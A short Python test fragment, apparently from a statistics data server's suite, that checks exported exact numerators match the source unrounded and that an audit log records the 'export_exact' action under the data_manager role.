    m = frame.merge(world.exact, on=KEY, suffixes=("", "_x"))
    assert len(m) and (m["numerator"] == m["numerator_x"]).all()  # exact, unrounded
    records = read_audit(server.config[AUDIT_URL_KEY], action="export_exact")
    assert len(records) and ind.id in records["detail"].iloc[0]
    assert records["role"].iloc[0] == "data_manager"
